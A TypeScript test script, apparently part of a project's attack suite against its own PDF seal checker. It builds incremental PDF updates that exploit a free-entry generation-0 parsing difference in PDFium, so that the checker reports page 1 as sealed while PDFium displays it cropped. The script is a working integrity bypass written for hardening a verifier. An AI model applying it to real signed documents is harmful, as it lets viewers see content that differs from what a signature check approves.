// a23: PDFium ignores a cross-reference TABLE's free entry of generation 0 (CPDF_Parser::MergeCrossRefObjectsData:
// `if (obj.info.gennum > 0) SetFree(...)`), so an object an older update defines stays in use for PDFium; poppler,
// pdf.js, qpdf and sealcheck read it free (null). And sealcheck compares a key whose value resolves to null as an
// absent key (a23 N1). Two table updates on the broker's real archive:
//   1. object A = a rectangle (listed, referenced by nothing),
//   2. page 1 re-stated with `/CropBox A 0 R` added, and A listed free at generation 0 (gen0) or 1 (honest).
// sealcheck reads /CropBox null: page 1 as sealed. PDFium crops page 1 to the rectangle (the title only).
// mode key: which key is added: crop (/CropBox), rotate (/Rotate on /Pages? no: page 1's /UserUnit), see below.
//   npx tsx scripts/attack-s18/free-gen0.ts <honest|gen0> [crop|box]   REAL=0 for samples/valid
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, tool, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "gen0";
const key = process.argv[3] ?? "crop";
if (!["honest", "gen0"].includes(mode) || !["crop", "box"].includes(key)) throw new Error("usage: <honest|gen0> [crop|box]");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const P = page.ref!.num;
const alloc = new NumberAllocator(doc);
const A = alloc.take();
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number, gen: number, t: "n" | "f") => `${String(off).padStart(10, "0")} ${String(gen).padStart(5, "0")} ${t} \n`;

// update 1: A, a rectangle: the top 130 points of page 1 (its title); box: a MediaBox-sized box far off the page
const offA = at;
push(latin(`${A} 0 obj\n${key === "crop" ? "[0 711 595.2756 841.8898]" : "[2000 2000 2595 2841]"}\nendobj\n`));
const x1 = at;
push(
  latin(
    `xref\n${A} 1\n${entry(offA, 0, "n")}trailer\n<< /Size ${A + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${x1}\n%%EOF\n`,
  ),
);

// update 2: page 1 with /CropBox A 0 R, A free
const pageDict = `<< ${[...p.kept, ...p.sealedTail].join(" ")} /CropBox ${A} 0 R >>`;
const offP = at;
push(latin(`${P} 0 obj\n${pageDict}\nendobj\n`));
const x2 = at;
push(
  latin(
    `xref\n${P} 1\n${entry(offP, 0, "n")}${A} 1\n${entry(0, mode === "gen0" ? 0 : 1, "f")}trailer\n<< /Size ${A + 1} ${carried.join(" ")} /Prev ${x1} >>\nstartxref\n${x2}\n%%EOF\n`,
  ),
);
const file = save(work(`s18-free-gen0-${mode}-${key}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`free-gen0 ${mode} ${key}`, file);
console.log(`== qpdf page ${P}: ${JSON.stringify(tool("qpdf", ["--show-object=" + P, file]).slice(-120))}`);
console.log(
  `== pdfinfo -box p1: ${JSON.stringify(
    tool("pdfinfo", ["-box", "-f", "1", "-l", "1", file])
      .split("\n")
      .filter((l) => /CropBox/.test(l))
      .join(" | "),
  )}`,
);
